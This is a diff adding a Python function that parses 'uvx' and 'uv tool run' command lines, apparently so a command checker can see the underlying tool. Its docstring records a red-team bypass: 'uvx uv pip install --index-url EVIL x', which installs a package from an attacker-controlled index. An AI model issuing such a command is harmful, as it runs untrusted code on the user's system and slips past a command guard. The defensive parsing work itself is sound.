@@ -753,6 +753,46 @@ def _uv_run_script(request, target: str, mode: str, cwd: str) -> bool:
     return os.path.isfile(full) and toml_files.add_script(request, full, cwd)
 
 
+def uv_tool_command(args: List[str]) -> Optional[List[str]]:
+    """The command ``uvx [opts] TOOL ARGS`` / ``uv [global opts] tool run [opts] TOOL ARGS``
+    runs (``args`` as uv_request takes them), or None: the tool's executable (TOOL's name
+    without ``@version``, extras or specifier; with ``--from SPEC``, TOOL itself) and ARGS.
+    red team 7 R7-6: ``uvx uv pip install --index-url EVIL x``."""
+    start = subcommand_start(args, UV_VALUED, UV_COMMANDS)
+    if args[start : start + 1] == ["x"]:
+        rest = args[start + 1 :]
+    elif args[start : start + 2] == ["tool", "run"]:
+        rest = args[start + 2 :]
+    else:
+        return None
+    i, has_from = 0, False
+    while i < len(rest):
+        word = rest[i]
+        if word == "--":
+            i += 1
+            break
+        if not word.startswith("-") or word == "-":
+            break
+        name, eq, _ = word.partition("=")
+        has_from = has_from or name == "--from"
+        if word.startswith("--") or len(word) == 2:
+            i += 2 if name in UV_VALUED and not eq else 1
+            continue
+        i += 1  # a bundle of short options: the first valued one takes the rest of the word
+        for k in range(1, len(word)):
+            if "-" + word[k] in UV_VALUED:
+                i += k + 1 == len(word)
+                break
+    if i >= len(rest):
+        return None
+    tool = rest[i]
+    if not has_from:
+        named = re.match(r"^[A-Za-z0-9][A-Za-z0-9._-]*", tool)
+        if named and tool[named.end() : named.end() + 1] in "@[=<>!~; ":
+            tool = named.group(0)
+    return [tool] + rest[i + 1 :]
+
+
 def _uv_tool(request, args, cwd, env):
     first = _uv_leading(request, args, cwd, env)
     if first is not None:
